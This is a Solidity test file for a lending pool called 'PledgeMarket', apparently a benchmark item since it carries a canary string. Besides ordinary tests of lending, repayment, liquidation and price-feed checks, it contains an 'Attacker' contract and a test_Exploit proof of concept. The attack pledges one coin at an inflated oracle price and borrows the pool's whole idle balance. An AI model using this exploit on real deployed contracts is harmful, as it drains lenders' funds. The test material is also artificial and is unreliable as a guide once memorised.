// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./PledgeMarket.sol";
import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-b1fad640-a418-49d7-94b2-b84ed7e4b208

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000_000e18);
    }
}

contract Feed is IFeed {
    address private immutable node = msg.sender;
    uint256 private px;
    uint256 private at;

    function set(uint256 px_, uint256 at_) external {
        require(msg.sender == node, "node only");
        (px, at) = (px_, at_);
    }

    function latest() external view returns (uint256, uint256) {
        return (px, at);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_762_200_000;
    uint256 private constant LENT = 1_000_000e18;

    Coin private eth;
    Coin private usd;
    Feed private a;
    Feed private b;
    PledgeMarket private pool;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        (eth, usd, a, b) = (new Coin(), new Coin(), new Feed(), new Feed());
        pool = new PledgeMarket(eth, usd, a, b);
        usd.transfer(ANA, LENT);
        vm.startPrank(ANA);
        usd.approve(address(pool), type(uint256).max);
        pool.lend(LENT);
        vm.stopPrank();
        eth.transfer(BEN, 100e18);
        vm.startPrank(BEN);
        eth.approve(address(pool), type(uint256).max);
        usd.approve(address(pool), type(uint256).max);
        vm.stopPrank();
        // one of the feeds has just reported nonsense
        a.set(5_800_000e18, START);
        b.set(3_500e18, START);
        mallory = new Attacker(pool, eth);
        eth.transfer(address(mallory), 1e18);
    }

    function test_Regular() public {
        a.set(3_500e18, START);
        vm.startPrank(BEN);
        pool.put(100e18);
        pool.borrow(200_000e18);
        require(usd.balanceOf(BEN) == 200_000e18 && pool.idle() == 800_000e18, "lent");
        pool.repay(BEN, 50_000e18);
        pool.take(10e18);
        (uint256 coll, uint256 debt) = pool.loans(BEN);
        require(coll == 90e18 && debt == 150_000e18 && pool.within(BEN, pool.LTV(), pool.lo()), "less of both");
        vm.stopPrank();
        vm.warp(START + 1 days);
        a.set(1_900e18, START + 1 days);
        b.set(1_900e18, START + 1 hours);
        require(pool.lo() == 1_900e18 && pool.hi() == 1_900e18, "falls");
        usd.approve(address(pool), type(uint256).max);
        require(pool.liquidate(BEN, 38_000e18) == 21e18 && eth.balanceOf(address(this)) > 21e18, "taken");
        vm.startPrank(ANA);
        pool.back(888_000e18);
        require(pool.lent(ANA) == 112_000e18 && usd.balanceOf(ANA) == 888_000e18, "back");
        vm.stopPrank();
    }

    function test_RefusesReports() public {
        a.set(0, START);
        vm.expectRevert(PledgeMarket.None.selector);
        pool.lo();
        a.set(1, START + 1);
        vm.expectRevert(PledgeMarket.Old.selector);
        pool.lo();
        a.set(1, START - 1 days - 1);
        vm.expectRevert(PledgeMarket.Old.selector);
        pool.lo();
    }

    function test_RefusesWeakLoans() public {
        a.set(3_500e18, START);
        vm.startPrank(BEN);
        pool.put(100e18);
        vm.expectRevert(PledgeMarket.Weak.selector);
        pool.borrow(262_500e18 + 1);
        pool.borrow(262_500e18);
        vm.expectRevert(PledgeMarket.Weak.selector);
        pool.take(1);
        vm.stopPrank();
        usd.approve(address(pool), type(uint256).max);
        vm.expectRevert(PledgeMarket.Fine.selector);
        pool.liquidate(BEN, 1e18);
    }

    function test_RefusesToSellAtOneLowReport() public {
        a.set(3_500e18, START);
        vm.startPrank(BEN);
        pool.put(100e18);
        pool.borrow(262_500e18);
        vm.stopPrank();
        b.set(35e18, START);
        vm.prank(BEN);
        vm.expectRevert(PledgeMarket.Weak.selector);
        pool.take(1);
        usd.approve(address(pool), type(uint256).max);
        vm.expectRevert(PledgeMarket.Fine.selector);
        pool.liquidate(BEN, 1e18);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= LENT, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Pledges one coin at the price of the wrong report.
contract Attacker {
    PledgeMarket private pool;
    IERC20 private eth;

    constructor(PledgeMarket pool_, IERC20 eth_) {
        pool = pool_;
        eth = eth_;
    }

    function run() external {
        eth.approve(address(pool), 1e18);
        pool.put(1e18);
        pool.borrow(pool.idle());
    }
}
